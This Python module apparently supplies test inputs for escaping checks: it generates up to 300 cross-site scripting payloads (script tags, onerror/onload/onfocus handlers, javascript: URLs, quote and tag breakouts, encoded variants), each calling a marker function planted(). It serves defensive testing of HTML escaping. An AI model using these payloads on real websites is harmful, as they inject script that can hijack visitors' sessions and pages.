"""300 texts that would run as a script where a page forgot to escape one. Each calls ``planted()``."""

from collections.abc import Iterator

_CALL = "planted()"
_SCRIPTS = (
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<script >{call}</script >",
    "<script/x>{call}</script>",
    "<script type=module>{call}</script>",
    "<svg><script>{call}</script></svg>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script>{call}//",
    "<script>\n{call}\n</script>",
    "<script src=data:text/javascript,{call}></script>",
)
_HANDLERS = (
    "<img src=x onerror={call}>",
    "<IMG SRC=x ONERROR={call}>",
    "<img/src=x/onerror={call}>",
    "<img src=x onerror\n={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<button autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}>",
    "<video src=x onerror={call}>",
    "<audio src=x onerror={call}>",
    "<object data=x onerror={call}>",
    "<marquee onstart={call}>",
    "<p tabindex=1 autofocus onfocus={call}>",
    "<iframe onload={call}>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<style onload={call}>p{{}}</style>",
    "<p style=animation-name:x onanimationstart={call}>",
)
_ADDRESSES = (
    "<a href=javascript:{call}>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<a href=&#106;avascript:{call}>x</a>",
    "<iframe src=javascript:{call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<embed src=javascript:{call}>",
    "<object data=javascript:{call}>",
    "<form action=javascript:{call}><button>x",
    "<button formaction=javascript:{call}>x",
    "<base href=javascript:/{call}//>",
    "<meta http-equiv=refresh content=0;url=javascript:{call}>",
    "<math href=javascript:{call}>x</math>",
    "<svg><a xlink:href=javascript:{call}>x</a></svg>",
    "<link rel=import href=data:text/html,{call}>",
)
_BREAKS = (
    "{text}",
    '">{text}',
    "'>{text}",
    "</title>{text}",
    "</textarea>{text}",
    "</script>{text}",
    "</option></select>{text}",
    "-->{text}",
    "]]>{text}",
    "</td></table>{text}",
)
_OTHERS = (
    '" onmouseover={call} x="',
    "' onfocus={call} autofocus x='",
    '" autofocus onfocus={call} x="',
    '" style=animation-name:x onanimationstart={call} "',
    "{{{{{call}}}}}",
    "{{%{call}%}}",
    "${{{call}}}",
    "javascript:{call}",
    "`-{call}-`",
    "';{call};//",
    '";{call};//',
    "\\';{call}//",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\u003cscript\u003e{call}\u003c/script\u003e",
    "＜script＞{call}＜/script＞",
    "\u202e<img src=x onerror={call}>",
)


def _every() -> Iterator[str]:
    yield from (shape.format(call=_CALL) for shape in _OTHERS)
    plain = [shape.format(call=_CALL) for shape in (*_SCRIPTS, *_HANDLERS, *_ADDRESSES)]
    for edge in _BREAKS:
        yield from (edge.format(text=text) for text in plain)


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_every()))[:300]


def packed(longest: int, shortest: int = 1) -> list[str]:
    """The payloads, as many as fit one after the other into each text of so many characters; at least some texts."""
    texts, current = [], ""
    for payload in PAYLOADS:
        if current and len(current) + len(payload) + 1 > longest:
            texts.append(current)
            current = ""
        current = f"{current} {payload}" if current else payload
    texts.append(current)
    while len(texts) < shortest:
        texts += texts
    return [text[:longest] for text in texts]
